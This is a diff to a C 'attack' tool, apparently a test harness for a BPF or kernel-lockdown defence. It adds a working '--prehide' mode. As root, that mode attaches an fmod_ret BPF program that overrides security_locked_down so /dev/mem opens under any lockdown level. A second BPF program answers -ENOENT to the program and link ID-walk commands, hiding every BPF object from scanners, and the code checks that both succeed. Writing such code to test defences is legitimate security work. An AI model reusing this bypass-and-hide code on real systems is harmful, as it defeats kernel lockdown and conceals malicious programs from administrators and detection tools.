@@ -17,6 +17,12 @@
  *        attack --preload FILE       loads an fmod_ret program now and
  *                                    attaches it once FILE exists
  *        attack --preattach FILE     attaches one now, holds it until FILE
+ *        attack --prehide FILE lsm|fmod_ret
+ *                                    attaches one answering 1 << 32 now and
+ *                                    a program hiding every program and
+ *                                    link from the ID walk (on the bpf LSM
+ *                                    hook, or fmod_ret on security_bpf),
+ *                                    holds both until FILE
  *        attack --stress SECONDS     raises, applies and probes at once
  *        attack --marker BUILD       prints the marker of that build at
  *                                    this ABI (build-ABI-BUILD)
@@ -37,6 +43,7 @@
 #include <sys/stat.h>
 #include <sys/utsname.h>
 #include <sys/prctl.h>
+#include <sys/syscall.h>
 #include <sys/wait.h>
 #include <linux/bpf.h>
 #include <bpf/bpf.h>
@@ -263,18 +270,12 @@ static int attack_attach_to_raise(void)
 	return report("attach_to_our_prog", fentry >= 0 || ext >= 0, detail);
 }
 
-/* Loads a program of @type returning the 64-bit @ret on vmlinux function
- * @func: its fd, or -1 with errno set (ENOENT: the kernel has no @func). */
-static int load_returning(const char *func, enum bpf_prog_type type,
-			  enum bpf_attach_type attach, __u64 ret)
+/* Loads program @insns of @type on vmlinux function @func: its fd, or -1
+ * with errno set (ENOENT: the kernel has no @func). */
+static int load_on(const char *func, enum bpf_prog_type type,
+		   enum bpf_attach_type attach, const struct bpf_insn *insns,
+		   size_t n)
 {
-	const struct bpf_insn insns[] = {
-		{ .code = BPF_LD | BPF_DW | BPF_IMM,
-		  .dst_reg = BPF_REG_0,
-		  .imm = (__s32)(__u32)ret },
-		{ .imm = (__s32)(__u32)(ret >> 32) },
-		{ .code = BPF_JMP | BPF_EXIT },
-	};
 	struct btf *vmlinux = btf__load_vmlinux_btf();
 	int btf_id;
 
@@ -287,7 +288,23 @@ static int load_returning(const char *func, enum bpf_prog_type type,
 	}
 	LIBBPF_OPTS(bpf_prog_load_opts, opts, .attach_btf_id = btf_id,
 		    .expected_attach_type = attach);
-	return bpf_prog_load(type, "before_ours", "GPL", insns, 3, &opts);
+	return bpf_prog_load(type, "before_ours", "GPL", insns, n, &opts);
+}
+
+/* Loads a program of @type returning the 64-bit @ret on vmlinux function
+ * @func: its fd, or -1 with errno set (ENOENT: the kernel has no @func). */
+static int load_returning(const char *func, enum bpf_prog_type type,
+			  enum bpf_attach_type attach, __u64 ret)
+{
+	const struct bpf_insn insns[] = {
+		{ .code = BPF_LD | BPF_DW | BPF_IMM,
+		  .dst_reg = BPF_REG_0,
+		  .imm = (__s32)(__u32)ret },
+		{ .imm = (__s32)(__u32)(ret >> 32) },
+		{ .code = BPF_JMP | BPF_EXIT },
+	};
+
+	return load_on(func, type, attach, insns, 3);
 }
 
 /*
@@ -448,6 +465,166 @@ static int preload(const char *go, int attach_now)
 	snprintf(detail, sizeof(detail), "BPF_LINK_CREATE:%s",
 		 link >= 0 ? "attached" : strerror(errno));
 	return report("preloaded_attach", link >= 0, detail);
+}
+
+/* Runs @cmd with an empty attr (start_id/prog_id 0 for the by-ID commands,
+ * @id for the others): "ok" or the errno's name, into @buf. */
+static const char *bpf_cmd_result(int cmd, __u32 id, char *buf, size_t size)
+{
+	union bpf_attr attr;
+
+	memset(&attr, 0, sizeof(attr));
+	if (cmd == BPF_PROG_GET_FD_BY_ID)
+		attr.prog_id = id;
+	else if (cmd == BPF_LINK_GET_FD_BY_ID)
+		attr.link_id = id;
+	else
+		attr.start_id = id;
+	long ret = syscall(__NR_bpf, cmd, &attr, sizeof(attr));
+
+	if (ret >= 0) {
+		if (cmd == BPF_PROG_GET_FD_BY_ID ||
+		    cmd == BPF_LINK_GET_FD_BY_ID)
+			close(ret);
+		snprintf(buf, size, "ok");
+	} else {
+		snprintf(buf, size, "%s",
+			 errno == ENOENT ? "ENOENT" : strerror(errno));
+	}
+	return buf;
+}
+
+static __u32 prog_id_of(int fd)
+{
+	struct bpf_prog_info info = { 0 };
+	__u32 len = sizeof(info);
+
+	return bpf_prog_get_info_by_fd(fd, &info, &len) ? 0 : info.id;
+}
+
+static __u32 link_id_of(int fd)
+{
+	struct bpf_link_info info = { 0 };
+	__u32 len = sizeof(info);
+
+	return bpf_link_get_info_by_fd(fd, &info, &len) ? 0 : info.id;
+}
+
+/*
+ * Before lockdown, root attaches a program that overrides it (fmod_ret on
+ * security_locked_down answering 1 << 32: /dev/mem opens under any level)
+ * and one that hides every program and link from the ID walk a scan for it
+ * would do: on the bpf() LSM hook (@variant "lsm") or with fmod_ret on
+ * security_bpf() ("fmod_ret"), it answers -ENOENT to BPF_PROG_GET_NEXT_ID,
+ * BPF_LINK_GET_NEXT_ID, BPF_PROG_GET_FD_BY_ID and BPF_LINK_GET_FD_BY_ID
+ * (as if the list had ended, or the object were gone) and 0 otherwise.
+ * Prints "PREHIDDEN <variant> <proof>" once it has seen the hide work on
+ * its own objects (each of the four answering ENOENT, when each answered
+ * before) and /dev/mem open, then holds both links until @go exists.
+ */
+static int prehide(const char *go, const char *variant)
+{
+	static const int hidden[] = { BPF_PROG_GET_NEXT_ID,
+				      BPF_LINK_GET_NEXT_ID,
+				      BPF_PROG_GET_FD_BY_ID,
+				      BPF_LINK_GET_FD_BY_ID };
+	static const char *const names[] = { "prog_next_id", "link_next_id",
+					     "prog_fd_by_id", "link_fd_by_id" };
+	/* r2 = ctx[0] (cmd); r0 = 0; if w2 is one of the four, r0 = -ENOENT. */
+	const struct bpf_insn hide[] = {
+		{ .code = BPF_LDX | BPF_MEM | BPF_DW,
+		  .dst_reg = BPF_REG_2,
+		  .src_reg = BPF_REG_1 },
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0 },
+		{ .code = BPF_JMP32 | BPF_JEQ | BPF_K,
+		  .dst_reg = BPF_REG_2,
+		  .off = 4,
+		  .imm = hidden[0] },
+		{ .code = BPF_JMP32 | BPF_JEQ | BPF_K,
+		  .dst_reg = BPF_REG_2,
+		  .off = 3,
+		  .imm = hidden[1] },
+		{ .code = BPF_JMP32 | BPF_JEQ | BPF_K,
+		  .dst_reg = BPF_REG_2,
+		  .off = 2,
+		  .imm = hidden[2] },
+		{ .code = BPF_JMP32 | BPF_JEQ | BPF_K,
+		  .dst_reg = BPF_REG_2,
+		  .off = 1,
+		  .imm = hidden[3] },
+		{ .code = BPF_JMP | BPF_EXIT },
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K,
+		  .dst_reg = BPF_REG_0,
+		  .imm = -ENOENT },
+		{ .code = BPF_JMP | BPF_EXIT },
+	};
+	int lsm = !strcmp(variant, "lsm"), bypass, bypass_link, prog, link;
+	__u32 ids[4];
+	char before[4][32], after[4][32], proof[256] = "", *p = proof;
+	int mem;
+
+	if (!lsm && strcmp(variant, "fmod_ret")) {
+		fprintf(stderr, "attack: --prehide FILE lsm|fmod_ret\n");
+		return 2;
+	}
+	bypass = load_returning("security_locked_down", BPF_PROG_TYPE_TRACING,
+				BPF_MODIFY_RETURN, 1ULL << 32);
+	if (bypass < 0) {
+		perror("attack: loading the fmod_ret program on security_locked_down");
+		return 2;
+	}
+	bypass_link = bpf_link_create(bypass, 0, BPF_MODIFY_RETURN, NULL);
+	if (bypass_link < 0) {
+		perror("attack: attaching the fmod_ret program on security_locked_down");
+		return 2;
+	}
+	prog = lsm ? load_on("bpf_lsm_bpf", BPF_PROG_TYPE_LSM, BPF_LSM_MAC,
+			     hide, sizeof(hide) / sizeof(hide[0]))
+		   : load_on("security_bpf", BPF_PROG_TYPE_TRACING,
+			     BPF_MODIFY_RETURN, hide,
+			     sizeof(hide) / sizeof(hide[0]));
+	if (prog < 0) {
+		perror("attack: loading the hiding program");
+		return 2;
+	}
+	/* Each of the four on our own objects, before and after the hide. */
+	ids[0] = 0;
+	ids[1] = 0;
+	ids[2] = prog_id_of(bypass);
+	ids[3] = link_id_of(bypass_link);
+	for (int i = 0; i < 4; i++)
+		bpf_cmd_result(hidden[i], ids[i], before[i], sizeof(before[i]));
+	link = bpf_link_create(prog, 0, lsm ? BPF_LSM_MAC : BPF_MODIFY_RETURN,
+			       NULL);
+	if (link < 0) {
+		perror("attack: attaching the hiding program");
+		return 2;
+	}
+	for (int i = 0; i < 4; i++) {
+		bpf_cmd_result(hidden[i], ids[i], after[i], sizeof(after[i]));
+		p += snprintf(p, proof + sizeof(proof) - p, "%s%s:%s->%s",
+			      i ? "," : "", names[i], before[i], after[i]);
+		if (strcmp(before[i], "ok") || strcmp(after[i], "ENOENT")) {
+			fprintf(stderr, "attack: the hide does not work: %s\n",
+				proof);
+			return 2;
+		}
+	}
+	mem = open("/dev/mem", O_RDONLY);
+	if (mem < 0) {
+		perror("attack: /dev/mem with the bypass attached");
+		return 2;
+	}
+	close(mem);
+	printf("PREHIDDEN %s %s dev_mem:opened\n", variant, proof);
+	fflush(stdout);
+	while (access(go, F_OK))
+		usleep(100000);
+	close(link);
+	close(prog);
+	close(bypass_link);
+	close(bypass);
+	return 0;
 }
 
 /* A map pinned among ours under a marker's name could pass for a
@@ -1524,6 +1701,8 @@ int main(int argc, char **argv)
 		return preload(argv[2], 0);
 	if (argc == 3 && !strcmp(argv[1], "--preattach"))
 		return preload(argv[2], 1);
+	if (argc == 4 && !strcmp(argv[1], "--prehide"))
+		return prehide(argv[2], argv[3]);
 	if (argc == 3 && !strcmp(argv[1], "--stress"))
 		return stress(atoi(argv[2]));
 	if (argc == 3 && !strcmp(argv[1], "--marker"))
